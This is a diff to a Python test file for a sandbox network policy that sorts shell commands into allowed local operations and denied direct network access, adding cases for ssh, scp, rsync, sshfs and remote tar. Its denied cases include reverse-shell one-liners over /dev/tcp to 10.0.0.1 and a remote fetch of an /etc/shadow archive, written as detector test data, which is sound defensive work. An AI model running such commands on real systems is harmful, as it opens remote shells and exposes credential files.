@@ -39,6 +39,10 @@ def policy(network: Network | None) -> Policy:
     "pip install -i https://pypi.org/simple requests",
     "echo > /dev/tcp/127.0.0.1/8000 && echo open",  # a port check on the jail's own loopback
     "exec 3<>/dev/tcp/localhost/80",
+    "rsync -av --exclude tmp:cache src/ dst/",  # an option's value is not a host
+    "scp build.tgz localhost:/tmp/",  # the jail's own loopback
+    "tar -xf backup:2024.tar --force-local",  # a local file with a colon in its name
+    "tar -czf out.tgz src",
 ])
 def test_what_the_network_reaches_is_allowed(line: str) -> None:
     decision = decide(line, WORKSPACE, policy(PROXY))
@@ -69,6 +73,17 @@ def test_what_the_network_reaches_is_allowed(line: str) -> None:
     ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "network-direct", "10.0.0.1:4444"),  # bash's own sockets
     ("exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196", "network-direct", "10.0.0.1:4242"),
     ("cat < /dev/udp/example.com/53", "network-direct", "example.com:53"),
+    # ssh and what rides on it, rsync's own protocol, tar's remote archives
+    ("ssh deploy@10.0.0.1", "network-direct", "10.0.0.1:22"),
+    ("ssh -i key -p 2200 build.example make test", "network-direct", "build.example:2200"),
+    ("ssh -p2200 build.example", "network-direct", "build.example:2200"),
+    ("scp -P 2222 dist.tgz user@10.0.0.1:/srv/", "network-direct", "10.0.0.1:2222"),
+    ("sftp files.example", "network-direct", "files.example:22"),
+    ("rsync -av src/ user@backup.example:/srv/src/", "network-direct", "backup.example:22"),
+    ("rsync -a mirror.example::debian mirror/", "network-direct", "mirror.example:873"),
+    ("rsync -a rsync://mirror.example:8873/debian/ mirror/", "network-direct", "mirror.example:8873"),
+    ("sshfs user@files.example:/srv mnt", "network-direct", "files.example:22"),
+    ("tar xvf user@10.0.0.1:/etc/shadow.tar --rsh-command=/bin/ssh", "network-direct", "10.0.0.1:22"),
 ])
 def test_what_the_network_cannot_reach_is_denied_with_the_profile_key(line: str, rule: str, where: str) -> None:
     decision = decide(line, WORKSPACE, policy(PROXY))
